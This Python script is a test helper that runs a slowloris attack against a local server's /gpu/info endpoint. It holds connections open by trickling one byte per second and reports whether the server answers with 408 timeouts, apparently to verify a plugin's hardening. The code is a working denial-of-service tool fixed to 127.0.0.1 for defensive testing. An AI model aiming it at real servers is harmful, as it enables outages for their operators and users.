#!/usr/bin/env python3
"""Slow clients for tests/integration/test_plugin_hardening.sh (a slowloris attack): opens N
connections to 127.0.0.1:PORT and sends each one byte of an endless request head per second
for SECONDS. Writes "ready" to READY_FILE once all are open, and at the end prints
"open=<still open> answered408=<closed with a 408> closed=<closed without an answer>
refused=<never connected>"."""
import select
import socket
import sys
import time

port, count, seconds, ready_file = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
head = b"GET /gpu/info HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
socks, refused = [], 0
for _ in range(count):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.setblocking(False)
        socks.append(s)
    except OSError:
        refused += 1
open(ready_file, "w").write("ready\n")
state = {s: {"sent": 0, "answer": b"", "done": False} for s in socks}
end = time.time() + seconds
while time.time() < end:
    for s, st in state.items():
        if st["done"]:
            continue
        try:
            s.send(head[st["sent"]:st["sent"] + 1])
            st["sent"] += 1
        except OSError:
            st["done"] = True
    live = [s for s, st in state.items() if not st["done"]]
    deadline = time.time() + 1
    while live and time.time() < deadline:
        poller = select.poll()
        for s in live:
            poller.register(s, select.POLLIN)
        ready = {fd for fd, _ in poller.poll(max(0, deadline - time.time()) * 1000)}
        readable = [s for s in live if s.fileno() in ready]
        for s in readable:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            state[s]["answer"] += data
            if not data:
                state[s]["done"] = True
                live.remove(s)
answered = sum(1 for st in state.values() if st["answer"].startswith(b"HTTP/1.1 408"))
closed = sum(1 for st in state.values() if st["done"] and not st["answer"])
still = sum(1 for st in state.values() if not st["done"])
print(f"open={still} answered408={answered} closed={closed} refused={refused}")
